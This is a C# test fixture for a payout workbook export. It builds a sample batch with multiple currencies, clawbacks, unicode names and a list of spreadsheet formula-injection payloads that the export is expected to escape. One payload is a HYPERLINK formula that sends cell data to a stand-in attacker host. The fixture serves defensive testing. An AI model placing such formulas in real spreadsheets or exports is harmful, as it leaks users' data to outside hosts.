using Ambassadors.Payouts.Workbook;

namespace Ambassadors.Tests.Payouts;

/// <summary>A batch in EUR, JPY and BHD with clawbacks, negative amounts, unicode and formula-injection payloads.</summary>
internal static class WorkbookSamples
{
    /// <summary>Each payload as the user typed it; the workbook must store it with a leading single quote.</summary>
    public static readonly string[] Injections =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1+2",
        "-3+4",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=2+2",
    ];

    public static readonly DateTimeOffset CreatedAt = new(2026, 11, 2, 9, 15, 42, TimeSpan.FromHours(2));
    public static readonly DateTimeOffset ApprovedAt = new(2026, 11, 3, 16, 5, 0, TimeSpan.Zero);

    public static PayoutWorkbookData Batch()
    {
        var lines = new List<PayoutWorkbookLine>
        {
            new(1, "amb_01JZ0000000000000000000001", "Zoë Ångström 山田太郎 😀", "zoe@example.com", "SE", "bank",
                "SE4550000000058398257466", "ESSESESS", null, "EUR", 123_456, -1_050, 122_406, 3, "PAY-2026-10-0001"),
            new(2, "amb_01JZ0000000000000000000002", Injections[0], Injections[1], "JP", "paypal",
                null, null, Injections[3], "JPY", 50_000, 0, 50_000, 1, "PAY-2026-10-0002"),
            new(3, "amb_01JZ0000000000000000000003", Injections[4], Injections[5], "BH", "bank",
                "BH67BMAG00001299123456", "BMAGBHBM", null, "BHD", 10_125, -10_250, -125, 2, "PAY-2026-10-0003"),
            new(4, "00123", "O'Brien, Seán", "sean@example.ie", "IE", "bank",
                "IE29AIBK93115212345678", "AIBKIE2D", null, "EUR", 99, 0, 99, 1, "0042"),
        };
        var rewards = new List<PayoutWorkbookReward>
        {
            Reward(lines[0], "conv_1", "camp_1", "Été 2026 ☀", "cnt_1", "Vidéo «best of»", "reward", new(2026, 10, 1), 100_000),
            Reward(lines[0], "conv_2", "camp_1", Injections[2], null, null, "secondDegree", new(2026, 10, 15), 24_506),
            Reward(lines[0], "conv_3", "camp_2", "Spring", "cnt_2", Injections[0], "clawback", new(2026, 10, 31), -1_050),
            Reward(lines[1], "conv_4", "camp_3", "日本キャンペーン", "cnt_3", Injections[3], "reward", new(2026, 9, 30), 50_000),
            Reward(lines[2], "conv_5", "camp_4", Injections[4], "cnt_4", Injections[5], "reward", new(2026, 10, 2), 10_125),
            Reward(lines[2], "conv_6", "camp_4", Injections[1], "cnt_5", "1234", "clawback", new(2026, 10, 3), -10_250),
            Reward(lines[3], "00042", "camp_5", "2026-10-01", "cnt_6", "  padded  ", "reward", new(2026, 10, 4), 99),
        };
        var summary = new PayoutWorkbookSummary(
            "Acme Ambassadors", "pay_01JZABCDEF0123456789", new DateOnly(2026, 10, 31), "approved", 25.5m,
            CreatedAt, Injections[0], ApprovedAt, "finance@acme.example", null, null, new DateOnly(2026, 11, 5), null,
            [
                new("BHD", 1, 2, 10_125, -10_250, -125),
                new("EUR", 2, 4, 123_555, -1_050, 122_505),
                new("JPY", 1, 1, 50_000, 0, 50_000),
            ],
            LineCount: lines.Count, RewardCount: rewards.Count, MissingDetailsCount: 1);
        return new PayoutWorkbookData(summary, lines, rewards);
    }

    private static PayoutWorkbookReward Reward(PayoutWorkbookLine line, string externalId, string campaign, string campaignName,
        string? contentId, string? contentTitle, string kind, DateOnly date, long amount) =>
        new(line.Number, line.PaymentReference, line.AmbassadorId, line.Payee, externalId, campaign, campaignName,
            contentId, contentTitle, kind, date, line.Currency, amount);
}
